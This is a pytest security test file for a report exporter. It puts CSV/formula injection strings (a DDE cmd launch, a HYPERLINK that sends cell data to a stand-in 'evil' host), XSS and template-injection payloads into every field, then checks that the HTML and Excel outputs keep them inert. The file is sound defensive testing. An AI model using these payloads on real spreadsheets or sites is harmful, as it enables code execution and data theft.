"""Hostile names in every text slot of a document: nothing runs, nothing computes, nothing is lost.

The payloads are those of common spreadsheet, HTML, template and Vega injections (OWASP CSV injection and
XSS cheat sheets; Vega advisories CVE-2025-59840 and GHSA of vega#3018).
"""

from __future__ import annotations

import re
import shutil
import subprocess
import zipfile
from collections.abc import Iterator
from html.parser import HTMLParser
from pathlib import Path

import pytest
from python_calamine import CalamineWorkbook

from headwater.core.block import (
    Callout,
    Chart,
    ChartKind,
    Code,
    Document,
    Field,
    Form,
    Grid,
    Heading,
    Page,
    Prose,
    Role,
    WhatIf,
    WhatIfInput,
    WhatIfOutput,
)
from headwater.core.finding import Finding, Severity
from headwater.export._charts import vega_spec
from headwater.export.excel import Excel
from headwater.export.html import Html

CHROMIUM_FLAGS = [
    "--headless",
    "--no-sandbox",
    "--disable-gpu",
    "--disable-quic",
    "--no-first-run",
    "--disable-background-networking",
    "--disable-component-update",
    "--disable-sync",
    "--virtual-time-budget=20000",
]

SET = "document.documentElement.dataset.xss=1"
SPREADSHEET = (
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil/?x="&A1,"click")',
    "+1+1",
    "-2+3",
    "@SUM(1,1)",
    "\t=1+1",
    "\r=1",
    "\uff1d1+1",
    '"=1+1";=2',
    '=DDE("cmd";"/C calc";"x")',
    "{=1+1}",
    "http://evil/x",
    "internal:Sheet1!A1",
    "_x003D_1+1",
)
PAGE = (
    f"</script><script>window.__xss=1;{SET}</script>",
    f'"><img src=x onerror={SET}>',
    "{{7*7}} {% raw %}",
    f"javascript:{SET}",
    f"<svg/onload={SET}>",
    "${7*7} #{7*7}",
    "\u202eabc\u200b\u2028\u2029",
    f'datum["</script><script>{SET}</script>"]',
    f'\\": (window.__xss=1), "{SET}',
    "<!--<script>",
    "]]>&lt;&#60;",
    "nul\x00bell\x07surrogate\ud800end",
    "名" * 10_240,
)
PAYLOADS = (*SPREADSHEET, *PAGE)


def hostile_chart(kind: ChartKind, text: str) -> Chart:
    numeric = kind in {ChartKind.LINE, ChartKind.CALIBRATION}
    at = Field(name=f"{text}x", label=text, form=Form.NUMBER if numeric else Form.TEXT, unit=text, note=text)
    number = [Field(name=text + n, label=text, form=Form.NUMBER, unit=text) for n in ("y", "low", "high")]
    fields = (at, *number, Field(name=f"{text}s", label=text))
    rows = tuple(
        (i if numeric else f"{text}{i}", 2.0, 1.0, 3.0, s) for s in (text, "plain") for i in range(2)
    )
    roles = tuple(
        zip((Role.X, Role.Y, Role.LOW, Role.HIGH, Role.SERIES), (f.name for f in fields), strict=True)
    )
    return Chart(name=text, title=text, kind=kind, fields=fields, rows=rows, roles=roles, finding=text)


def hostile_page(text: str, *, analyst: bool) -> Page:
    forms = (Form.TEXT, Form.ID, Form.INTEGER, Form.MONEY, Form.DATE, Form.BOOLEAN)
    fields = [Field(name=text, label=text, form=form, unit=text, note=text) for form in forms]
    finding = Finding(code=text, severity=Severity.BLOCK, what=text, why=text, do=text)
    return Page(
        name=text,
        title=text,
        analyst=analyst,
        blocks=(
            Heading(text=text),
            Prose(text=text, lead=True),
            Prose(text=text),
            Callout(finding=finding),
            Code(title=text, text=text, language=text),
            Grid.of(
                text,
                text,
                fields,
                [(text,) * 6, (text, "7312345678901234567", -5, -2.5, "2026-08-01", True)],
                note=text,
            ),
            Grid.of(text, text, fields, [(text,) * 6] * 70, note=text, preview=3),
            *(hostile_chart(kind, text) for kind in ChartKind),
        ),
    )


def hostile_document() -> Document:
    everything = PAYLOADS[0]
    given = WhatIfInput(name="a", label=everything, value=1.0, form=Form.NUMBER, low=0, high=5, note=PAGE[0])
    out = WhatIfOutput(name="b", label=PAGE[1], value=2.0, form=Form.NUMBER, formula="a*2", note=everything)
    model = WhatIf(name=everything, title=everything, inputs=(given,), outputs=(out,), note=everything)
    pages = [hostile_page(text, analyst=i % 2 == 1) for i, text in enumerate(PAYLOADS)]
    pages.append(Page(name="model", title="=1+1", blocks=(model,)))
    provenance = tuple((text, text) for text in PAYLOADS)
    return Document(title=PAGE[0] + SPREADSHEET[0], lead=PAGE[1], pages=tuple(pages), provenance=provenance)


class Elements(HTMLParser):
    """Tags and attributes a browser would see, and all text outside scripts and styles."""

    def __init__(self) -> None:
        super().__init__()
        self.tags: list[str] = []
        self.attributes: list[tuple[str, str | None]] = []
        self.text = ""
        self.inside = ""

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append(tag)
        self.attributes.extend(attrs)
        self.inside = tag

    def handle_endtag(self, tag: str) -> None:
        self.inside = ""

    def handle_data(self, data: str) -> None:
        if self.inside not in {"script", "style"}:
            self.text += data


@pytest.fixture(scope="module")
def page(tmp_path_factory: pytest.TempPathFactory) -> Path:
    path = tmp_path_factory.mktemp("attack") / "report.html"
    Html().write(hostile_document(), path)
    return path


@pytest.fixture(scope="module")
def book(tmp_path_factory: pytest.TempPathFactory) -> Path:
    path = tmp_path_factory.mktemp("attack") / "report.xlsx"
    Excel().write(hostile_document(), path)
    return path


def dom_of(page: Path, profile: Path) -> tuple[str, str]:
    chromium = shutil.which("chromium")
    if chromium is None:
        pytest.skip("chromium is not installed: the page cannot be opened in a real browser")
    logged = ["--enable-logging=stderr", f"--user-data-dir={profile}", "--dump-dom", page.as_uri()]
    done = subprocess.run([chromium, *CHROMIUM_FLAGS, *logged], capture_output=True, timeout=200, check=True)
    return done.stdout.decode("utf-8"), done.stderr.decode("utf-8", "replace")


def test_payloads_stay_inert_in_chromium_and_every_chart_draws(page: Path, tmp_path: Path) -> None:
    dom, log = dom_of(page, tmp_path)
    assert f'data-ok="{4 * len(PAYLOADS)}"' in dom
    assert "data-xss" not in dom.split("<head>", maxsplit=1)[0]
    console = [line for line in log.splitlines() if ":CONSOLE" in line]
    assert not [line for line in console if "Refused" in line or "violates" in line or "rror" in line]


def test_a_payload_that_does_run_is_seen_by_this_test(tmp_path: Path) -> None:
    bad = tmp_path / "bad.html"
    bad.write_text(f"<!doctype html><html><body>{PAGE[0]}</body></html>", encoding="utf-8")
    dom, _ = dom_of(bad, tmp_path / "profile")
    assert 'data-xss="1"' in dom.split("<head>", maxsplit=1)[0]


def test_payloads_become_text_and_no_element_or_attribute(page: Path) -> None:
    source = page.read_text(encoding="utf-8")
    seen = Elements()
    seen.feed(source)
    assert not {"img", "svg", "iframe", "object", "link", "base", "form"} & set(seen.tags)
    assert not [
        name for name, _ in seen.attributes if name.startswith("on") or name in {"src", "style", "srcdoc"}
    ]
    assert all((value or "").startswith("#") for name, value in seen.attributes if name == "href")
    for text in (
        "{{7*7}} {% raw %}",
        "${7*7} #{7*7}",
        PAGE[0],
        PAGE[1],
        "=cmd|' /C calc'!A0",
        "]]>&lt;&#60;",
    ):
        assert text in seen.text
    assert "nul\ufffdbell\ufffdsurrogate\ufffdend" in seen.text
    n_scripts = 2 + 4 * len(PAYLOADS)
    assert seen.tags.count("script") == source.count("</script>") == n_scripts


def expressions(node: object, key: str = "") -> Iterator[str]:
    if isinstance(node, dict):
        for name, child in node.items():
            yield from expressions(child, name)
    elif isinstance(node, list):
        for child in node:
            yield from expressions(child, key)
    elif isinstance(node, str) and key in {"signal", "expr", "test", "update"}:
        yield node


@pytest.mark.parametrize("kind", list(ChartKind))
def test_no_name_from_data_enters_a_vega_expression_once_compiled(kind: ChartKind) -> None:
    vl_convert = pytest.importorskip("vl_convert", reason="vl-convert compiles Vega-Lite to Vega")
    compiled = vl_convert.vegalite_to_vega(vega_spec(hostile_chart(kind, "PAYLOAD")))
    assert "PAYLOAD" in str(compiled)
    assert not [text for text in expressions(compiled) if "PAYLOAD" in text]


def test_no_formula_outside_the_model_and_no_link_anywhere(book: Path) -> None:
    with zipfile.ZipFile(book) as archive:
        names = archive.namelist()
        sheets = [n for n in names if re.fullmatch(r"xl/worksheets/sheet\d+\.xml", n)]
        with_formula = [n for n in sheets if b"<f>" in archive.read(n) or b"<f " in archive.read(n)]
        assert len(with_formula) == 1
        assert archive.read(with_formula[0]).count(b"<f>") == 1
        assert not [n for n in sheets if b"<hyperlink" in archive.read(n)]
        relations = b"".join(archive.read(n) for n in names if n.endswith(".rels"))
        assert b"External" not in relations
        charts = b"".join(archive.read(n) for n in names if n.startswith("xl/charts/chart"))
        references = set(re.findall(rb"<c:f>([^<]*)</c:f>", charts))
        assert all(re.fullmatch(rb"'Chart data'!\$[A-Z]+\$\d+(:\$[A-Z]+\$\d+)?", r) for r in references)
        book_xml = archive.read("xl/workbook.xml").decode("utf-8")
    assert "calc'!A0" not in re.sub(r"<sheet [^>]*>", "", book_xml)


def test_every_payload_comes_back_as_the_text_it_was(book: Path) -> None:
    workbook = CalamineWorkbook.from_path(str(book))
    cells = {
        str(cell)
        for name in workbook.sheet_names
        for row in workbook.get_sheet_by_name(name).to_python()
        for cell in row
        if isinstance(cell, str)
    }
    for text in SPREADSHEET:
        assert text in cells or text.replace("\r", "\n") in cells, text
    assert PAGE[0] in cells
    assert "7312345678901234567" in cells
    assert "名" * 10_240 in cells


def test_negative_numbers_stay_numbers_beside_payloads(book: Path) -> None:
    workbook = CalamineWorkbook.from_path(str(book))
    rows = [row for n in workbook.sheet_names for row in workbook.get_sheet_by_name(n).to_python()]
    found = [row for row in rows if "7312345678901234567" in row]
    assert len(found) == len(PAYLOADS)
    assert all(row[2:4] == [-5, -2.5] and row[5] is True for row in found)


def test_sheet_names_are_legal_unique_and_short(book: Path) -> None:
    names = CalamineWorkbook.from_path(str(book)).sheet_names
    assert len({name.casefold() for name in names}) == len(names)
    assert all(len(name) <= 31 and not re.search(r"[\[\]:*?/\\\x00-\x1f]", name) for name in names)


def test_every_part_of_the_workbook_is_well_formed_xml(book: Path) -> None:
    from xml.etree import ElementTree

    with zipfile.ZipFile(book) as archive:
        for name in archive.namelist():
            if name.endswith((".xml", ".rels", ".vml")):
                ElementTree.fromstring(archive.read(name))


def test_libreoffice_opens_the_hostile_workbook(book: Path, tmp_path: Path) -> None:
    soffice = shutil.which("soffice")
    if soffice is None:
        pytest.skip("soffice is not installed: the workbook cannot be opened by another program")
    profile = (tmp_path / "profile").as_uri()
    command = [soffice, f"-env:UserInstallation={profile}", "--headless", "--convert-to", "ods", "--outdir"]
    subprocess.run([*command, str(tmp_path), str(book)], capture_output=True, timeout=180, check=True)
    with zipfile.ZipFile(tmp_path / "report.ods") as archive:
        content = archive.read("content.xml").decode("utf-8")
    formulas = re.findall(r'table:formula="([^"]*)"', content)
    assert formulas.count("of:=a*2") == 1
    assert set(formulas) == {"of:=a*2", "of:=TRUE()"}  # how LibreOffice writes a truth value
